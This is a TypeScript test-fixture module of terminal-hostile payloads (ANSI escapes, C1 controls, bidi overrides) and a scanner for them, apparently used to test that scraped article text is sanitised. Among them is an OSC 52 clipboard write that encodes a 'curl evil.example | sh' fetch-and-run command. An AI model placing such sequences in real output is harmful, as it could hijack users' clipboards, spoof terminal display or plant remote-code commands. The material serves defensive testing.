/**
 * Terminal-hostile payloads as scraped pages carry them, and a scanner that finds any of them in output.
 * Each payload is well-formed (or deliberately unterminated) so tests can tell "removed" from "leaked".
 */

export interface Payload {
	readonly name: string;
	readonly text: string;
}

const esc = '\u001B';
const bel = '\u0007';
const st = `${esc}\\`;

export const escapePayloads: readonly Payload[] = [
	{name: 'CSI erase display', text: `${esc}[2J`},
	{name: 'CSI cursor home + erase', text: `${esc}[H${esc}[3J`},
	{name: 'CSI red foreground', text: `${esc}[31m`},
	{name: 'CSI 256-colour + reset', text: `${esc}[38;5;196mred${esc}[0m`},
	{name: 'CSI cursor position', text: `${esc}[10;20H`},
	{name: 'CSI private mode: hide cursor', text: `${esc}[?25l`},
	{name: 'CSI private mode: leave alternate screen', text: `${esc}[?1049l`},
	{name: 'CSI device status report (answerback)', text: `${esc}[6n`},
	{name: 'CSI window title report (answerback)', text: `${esc}[21t`},
	{name: 'OSC 0 title, BEL', text: `${esc}]0;pwned${bel}`},
	{name: 'OSC 2 title, ST', text: `${esc}]2;pwned${st}`},
	{name: 'OSC 8 hyperlink', text: `${esc}]8;;https://evil.example/${st}click here${esc}]8;;${st}`},
	{name: 'OSC 52 clipboard write', text: `${esc}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==${bel}`},
	{name: 'OSC 52 clipboard read', text: `${esc}]52;c;?${bel}`},
	{name: 'OSC 4 palette change', text: `${esc}]4;1;rgb:ff/00/00${st}`},
	{name: 'OSC unterminated', text: `${esc}]0;pwned`},
	{name: 'DCS', text: `${esc}Pq#0;2;0;0;0#1;2;100;100;0${st}`},
	{name: 'DCS tmux passthrough', text: `${esc}Ptmux;${esc}${esc}]0;pwned${bel}${st}`},
	{name: 'APC', text: `${esc}_Gf=100;payload${st}`},
	{name: 'PM', text: `${esc}^private${st}`},
	{name: 'SOS', text: `${esc}Xstring${st}`},
	{name: 'two-byte: RIS full reset', text: `${esc}c`},
	{name: 'two-byte: save cursor', text: `${esc}7`},
	{name: 'two-byte: index', text: `${esc}D`},
	{name: 'charset designation', text: `${esc}(0`},
	{name: 'lone ESC', text: esc},
	{name: 'double ESC before CSI', text: `${esc}${esc}[31m`},
	{name: 'C1 CSI (U+009B)', text: '\u009B31m'},
	{name: 'C1 CSI erase (U+009B)', text: '\u009B2J'},
	{name: 'C1 OSC title (U+009D)', text: '\u009D0;pwned\u0007'},
	{name: 'C1 OSC 52 with C1 ST', text: '\u009D52;c;cHduZWQ=\u009C'},
	{name: 'C1 DCS (U+0090)', text: '\u0090q#0\u009C'},
	{name: 'C1 NEL and IND', text: '\u0085\u0084'},
	{name: 'C1 APC (U+009F)', text: '\u009Fpayload\u009C'},
	{name: 'backspace overwrite', text: 'safe\b\b\b\bEVIL'},
	{name: 'carriage-return overwrite', text: 'Ukraine wins\rRussia wins'},
	{name: 'BEL', text: bel},
	{name: 'vertical tab and form feed', text: '\u000B\u000C'},
	{name: 'DEL', text: '\u007F'},
	{name: 'SO/SI charset shift', text: '\u000E\u000F'},
	{name: 'NUL-free C0 soup', text: '\u0001\u0002\u0003\u0004\u0005\u0006\u0010\u0011\u0012\u0013\u0014\u0015\u0016\u0017\u0018\u0019\u001A\u001C\u001D\u001E\u001F'},
	{name: 'bidi RLO (U+202E)', text: '\u202Egnp.exe'},
	{name: 'bidi LRO/RLE/LRE/PDF', text: '\u202D\u202B\u202A\u202C'},
	{name: 'bidi isolates', text: '\u2066\u2067\u2068\u2069'},
	{name: 'bidi marks', text: '\u200E\u200F\u061C'},
];

/** Everything that must never reach a terminal from article text: escape sequences, C0 (but \n, \t), DEL, C1, bidi controls. */
const hazard = /[\u0000-\u0008\u000B-\u001F\u007F-\u009F\u202A-\u202E\u2066-\u2069\u200E\u200F\u061C]/g;

/** The hazards in a text, each shown escaped (`\u001b`), in order; empty when the text is safe. */
export function hazardsIn(text: string): string[] {
	return [...text.matchAll(hazard)].map(match => `\\u${match[0].codePointAt(0)!.toString(16).padStart(4, '0')}`);
}

/** True when `text` carries no terminal hazard (newline and tab allowed). */
export function isTerminalSafe(text: string): boolean {
	return !/[\u0000-\u0008\u000B-\u001F\u007F-\u009F\u202A-\u202E\u2066-\u2069\u200E\u200F\u061C]/.test(text);
}

/** A paragraph of news prose with a payload inside it, marked so tests can find where it was. */
export function carrier(payload: Payload, index: number): string {
	return `Officials in Kyiv said ${payload.text} on Tuesday that ${index + 12} drones were shot down near Kharkiv.`;
}
